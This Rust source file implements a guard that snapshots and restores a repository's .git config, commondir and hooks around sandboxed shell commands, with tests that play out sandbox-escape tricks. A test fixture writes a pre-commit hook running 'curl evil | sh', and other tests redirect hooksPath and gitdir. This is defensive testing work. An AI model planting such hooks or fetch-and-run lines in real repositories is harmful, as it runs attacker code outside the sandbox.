//! Git's hooks and `.git/config` run commands later, outside the sandbox (a hook on the
//! next commit, `core.hooksPath`, `core.fsmonitor`, aliases). Landlock cannot keep them
//! read-only inside a writable workspace, so the shell tool takes a copy before a
//! sandboxed command and puts back whatever the command changed there.
//!
//! Guarded: what `.git` is (a folder, or a `gitdir:` file), and in the folder `config`,
//! `config.worktree`, `commondir` (which moves the config elsewhere) and every hook
//! (`hooks/*` but the `.sample` files git never runs). Everything is read and put back
//! through [`Anchored`]: a command that swaps `hooks` (or `.git`) for a link to another
//! folder gets the link removed, never that folder emptied or written.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

use crate::anchored::{Anchored, Kind};

/// Larger files are kept as a hash (and removed if they change); more than this in all
/// is kept as hashes too.
const MAX_FILE: u64 = 8 << 20;
const MAX_TOTAL: u64 = 16 << 20;
/// Most hooks looked at.
const MAX_FILES: usize = 500;
/// Files in `.git` that change what git runs.
const GUARDED: &[&str] = &["config", "config.worktree", "commondir"];

/// What a guarded file was.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Snapshot {
    Absent,
    Content(Vec<u8>, u32),
    /// Too large to copy: its hash and bits.
    Hash([u8; 32], u32),
}

/// What `.git` was.
#[derive(Debug, Clone, PartialEq, Eq)]
enum DotGit {
    Dir,
    File(Vec<u8>, u32),
}

/// The guarded files of one repository as they were.
#[derive(Debug)]
pub struct GitGuard {
    workspace: PathBuf,
    dot_git: DotGit,
    files: BTreeMap<PathBuf, Snapshot>,
}

fn digest(bytes: &[u8]) -> [u8; 32] {
    Sha256::digest(bytes).into()
}

impl GitGuard {
    /// A copy of the guarded files of `workspace/.git`, if the workspace holds a
    /// repository (a `.git` folder, or a `gitdir:` file).
    pub fn take(workspace: &Path) -> Option<GitGuard> {
        let anchored = Anchored::open(workspace).ok()?;
        let dot_git = match anchored.kind(Path::new(".git")).ok()?? {
            Kind::Dir => DotGit::Dir,
            Kind::File => {
                let (bytes, mode) = anchored.read(Path::new(".git"), 64 << 10).ok()??;
                DotGit::File(bytes, mode)
            }
            Kind::Link | Kind::Other => return None,
        };
        let mut guard = GitGuard { workspace: workspace.to_path_buf(), dot_git, files: BTreeMap::new() };
        if guard.dot_git != DotGit::Dir {
            return Some(guard);
        }
        let mut names: Vec<PathBuf> = GUARDED.iter().map(|n| Path::new(".git").join(n)).collect();
        let hooks = Path::new(".git/hooks");
        names.extend(hooks_in(&anchored, hooks).into_iter().take(MAX_FILES).map(|name| hooks.join(name)));
        let mut total = 0u64;
        for name in names {
            let snapshot = match anchored.read(&name, MAX_FILE) {
                Ok(None) => Snapshot::Absent,
                Ok(Some((bytes, mode))) if total + bytes.len() as u64 <= MAX_TOTAL => {
                    total += bytes.len() as u64;
                    Snapshot::Content(bytes, mode)
                }
                Ok(Some((bytes, mode))) => Snapshot::Hash(digest(&bytes), mode),
                // Too large, or not a regular file: whatever it becomes, it goes.
                Err(_) => Snapshot::Hash([0; 32], 0),
            };
            guard.files.insert(name, snapshot);
        }
        Some(guard)
    }

    /// Puts back every guarded file the command changed or removed, removes hooks it
    /// added, and puts `.git` itself back where it was swapped. Returns the paths it
    /// restored (relative to the workspace), and what it could not put back.
    pub fn restore(&self) -> Vec<String> {
        let Ok(anchored) = Anchored::open(&self.workspace) else {
            return vec![".git (the workspace could not be opened to check it)".into()];
        };
        let mut restored = Vec::new();
        let now = anchored.kind(Path::new(".git")).ok().flatten();
        match &self.dot_git {
            DotGit::File(bytes, mode) => {
                let same = now == Some(Kind::File)
                    && anchored.read(Path::new(".git"), 64 << 10).ok().flatten().as_ref()
                        == Some(&(bytes.clone(), *mode));
                if !same && anchored.replace(Path::new(".git"), bytes, *mode).is_ok() {
                    restored.push(".git".to_owned());
                }
                return restored;
            }
            DotGit::Dir if now != Some(Kind::Dir) => {
                // Moved away: what replaced it goes; the folder itself cannot come back.
                let _ = anchored.remove(Path::new(".git"));
                restored.push(".git (moved away by the command: not restored)".to_owned());
                return restored;
            }
            DotGit::Dir => {}
        }
        let hooks = Path::new(".git/hooks");
        if anchored.kind(hooks).ok().flatten().is_some_and(|k| k != Kind::Dir) {
            let _ = anchored.remove(hooks);
            restored.push(".git/hooks".to_owned());
        }
        for (path, snapshot) in &self.files {
            if !self.same(&anchored, path, snapshot) {
                let done = match snapshot {
                    Snapshot::Content(bytes, mode) => anchored.replace(path, bytes, *mode).is_ok(),
                    Snapshot::Absent | Snapshot::Hash(..) => anchored.remove(path).is_ok(),
                };
                let name = path.display().to_string();
                restored.push(if done { name } else { format!("{name} (could not be put back)") });
            }
        }
        for name in hooks_in(&anchored, hooks) {
            let path = hooks.join(&name);
            if !self.files.contains_key(&path) && anchored.remove(&path).is_ok() {
                restored.push(path.display().to_string());
            }
        }
        restored
    }

    fn same(&self, anchored: &Anchored, path: &Path, snapshot: &Snapshot) -> bool {
        match (snapshot, anchored.read(path, MAX_FILE)) {
            (Snapshot::Absent, Ok(None)) => anchored.kind(path).ok().flatten().is_none(),
            (Snapshot::Content(bytes, mode), Ok(Some((now, now_mode)))) => *bytes == now && *mode == now_mode,
            (Snapshot::Hash(hash, mode), Ok(Some((now, now_mode)))) => {
                *hash == digest(&now) && *mode == now_mode
            }
            _ => false,
        }
    }
}

/// The hooks in `dir` that git may run: every entry but the `.sample` files.
fn hooks_in(anchored: &Anchored, dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = anchored
        .list(dir)
        .unwrap_or_default()
        .into_iter()
        .map(|n| n.to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".sample"))
        .collect();
    names.sort();
    names
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repo() -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().join("ws");
        let git = ws.join(".git");
        std::fs::create_dir_all(git.join("hooks")).unwrap();
        std::fs::write(git.join("config"), "[core]\n").unwrap();
        std::fs::write(git.join("hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
        (dir, ws)
    }

    #[test]
    fn changed_and_added_hooks_and_config_are_put_back() {
        let (_dir, ws) = repo();
        let git = ws.join(".git");
        let guard = GitGuard::take(&ws).unwrap();
        assert!(guard.restore().is_empty());
        std::fs::write(git.join("config"), "[core]\nhooksPath = evil\n").unwrap();
        std::fs::write(git.join("hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        std::fs::write(git.join("commondir"), "/tmp/evil\n").unwrap();
        let restored = guard.restore();
        assert_eq!(restored, vec![".git/commondir", ".git/config", ".git/hooks/pre-commit"]);
        assert_eq!(std::fs::read_to_string(git.join("config")).unwrap(), "[core]\n");
        assert!(!git.join("hooks/pre-commit").exists() && !git.join("commondir").exists());
        assert!(git.join("hooks/pre-commit.sample").exists());
        assert!(GitGuard::take(&ws.join("nope")).is_none());
    }

    /// Issue 28, item 1: a command moved `.git/hooks` away and put a link to an outside
    /// folder in its place; the restore emptied that folder and wrote hooks into it.
    #[test]
    fn a_hooks_folder_swapped_for_a_link_is_removed_not_followed() {
        let (dir, ws) = repo();
        let outside = dir.path().join("home");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("precious.txt"), "keep").unwrap();
        std::fs::write(ws.join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
        let guard = GitGuard::take(&ws).unwrap();
        std::fs::rename(ws.join(".git/hooks"), dir.path().join("moved-hooks")).unwrap();
        std::os::unix::fs::symlink(&outside, ws.join(".git/hooks")).unwrap();
        let restored = guard.restore();
        assert!(restored.contains(&".git/hooks".to_owned()), "{restored:?}");
        assert_eq!(std::fs::read_to_string(outside.join("precious.txt")).unwrap(), "keep");
        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1, "nothing written outside");
        assert!(std::fs::symlink_metadata(ws.join(".git/hooks")).unwrap().is_dir());
        assert_eq!(std::fs::read_to_string(ws.join(".git/hooks/post-checkout")).unwrap(), "#!/bin/sh\n");
    }

    /// Issue 28, item 2: guard bypasses: `.git` turned into a `gitdir:` file, and a huge
    /// hook sample that switched the guard off.
    #[test]
    fn a_gitdir_file_and_a_huge_sample_do_not_get_past() {
        let (dir, ws) = repo();
        std::fs::write(ws.join(".git/hooks/big.sample"), vec![b'#'; 6 << 20]).unwrap();
        let guard = GitGuard::take(&ws).unwrap();
        std::fs::write(ws.join(".git/hooks/pre-push"), "#!/bin/sh\nevil\n").unwrap();
        assert_eq!(guard.restore(), vec![".git/hooks/pre-push"]);
        let evil = dir.path().join("evil-git");
        std::fs::create_dir_all(&evil).unwrap();
        std::fs::rename(ws.join(".git"), dir.path().join("stolen")).unwrap();
        std::fs::write(ws.join(".git"), format!("gitdir: {}\n", evil.display())).unwrap();
        let restored = guard.restore();
        assert_eq!(restored, vec![".git (moved away by the command: not restored)"]);
        assert!(!ws.join(".git").exists(), "the gitdir file is gone");
        // A repository whose .git is a file keeps that file.
        std::fs::write(ws.join(".git"), "gitdir: ../real\n").unwrap();
        let file_guard = GitGuard::take(&ws).unwrap();
        std::fs::write(ws.join(".git"), format!("gitdir: {}\n", evil.display())).unwrap();
        assert_eq!(file_guard.restore(), vec![".git"]);
        assert_eq!(std::fs::read_to_string(ws.join(".git")).unwrap(), "gitdir: ../real\n");
    }
}
